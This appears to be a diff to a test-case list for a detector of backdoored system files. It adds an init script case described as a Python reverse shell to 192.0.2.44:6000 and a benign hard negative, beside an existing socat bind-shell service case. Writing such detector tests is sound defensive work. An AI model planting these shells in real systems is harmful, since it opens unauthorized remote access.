@@ -953,6 +953,13 @@ add("access/udev-shell/etc/udev/rules.d/99-usb-serial.rules", "access-network-sh
 add("access/udev-benign/etc/udev/rules.d/60-backup.rules", "access-benign", "any", "text", "clean",
     [], REMOTE_RULES + [R["rootlogin"]], [],
     "Hard negative: RUN+= of a backup script for a labelled disk, and a sh -c that writes a sysfs power setting.")
+add("access/script-shell/etc/init.d/S98sync", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "An init script's start runs a python3 -c one-liner: socket.connect to 192.0.2.44:6000, os.dup2 onto 0, 1, 2, "
+    "pty.spawn(\"/bin/sh\") (line 4).")
+add("access/script-benign/etc/init.d/S50hostname", "access-benign", "any", "text", "clean",
+    [], REMOTE_RULES + [R["rootlogin"]], [],
+    "Hard negative: python3 -c 'import socket; print(socket.gethostname())': a socket module, no connection, no shell.")
 add("access/socat-shell/etc/systemd/system/diag.service", "access-network-shell", "any", "text",
     "malicious", [R["netshell"]], [], [],
     "ExecStart=socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr.")
